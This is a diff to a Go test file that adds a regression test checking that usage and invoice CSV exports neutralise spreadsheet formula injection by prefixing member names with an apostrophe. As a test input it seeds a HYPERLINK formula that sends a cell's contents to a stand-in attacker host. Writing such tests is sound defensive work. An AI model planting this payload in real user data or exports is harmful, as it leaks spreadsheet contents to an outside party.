@@ -294,6 +294,44 @@ func TestUsageCSV(t *testing.T) {
 	})
 }
 
+// TestCSVExportsCannotCarryFormulas: a member who names themselves like a
+// spreadsheet formula gets the name exported as text, in the usage export
+// and in invoices.
+func TestCSVExportsCannotCarryFormulas(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, db *gorm.DB) {
+		f := newUsageOrg(t, db)
+		names := map[int64]string{f.admin.ID: `=HYPERLINK("https://evil.example/?"&A1,"Open")`, f.member.ID: "+1-555-0100"}
+		for id, name := range names {
+			if err := db.Exec("UPDATE users SET name = ? WHERE id = ?", name, id).Error; err != nil {
+				t.Fatal(err)
+			}
+		}
+		id, _ := closedInvoice(t, db, f)
+		exports := map[string]int{"/settings/usage.csv?range=90d": 1, "/settings/billing/invoices/" + id + ".csv": 2}
+		for path, col := range exports {
+			recs := readCSV(t, f.ac.get(path).status(http.StatusOK).Body)
+			seen := 0
+			for _, rec := range recs[1:] {
+				cell := rec[col]
+				if cell == "" {
+					continue
+				}
+				if strings.ContainsRune("=+-@", rune(cell[0])) {
+					t.Errorf("%s: the cell %q would be evaluated as a formula", path, cell)
+				}
+				for _, name := range names {
+					if strings.HasPrefix(cell, "'"+name) {
+						seen++
+					}
+				}
+			}
+			if seen == 0 {
+				t.Errorf("%s: no member name exported as text (with a leading apostrophe):\n%v", path, recs)
+			}
+		}
+	})
+}
+
 // Billing & Plan ---------------------------------------------------------------
 
 func TestBillingPageRoles(t *testing.T) {
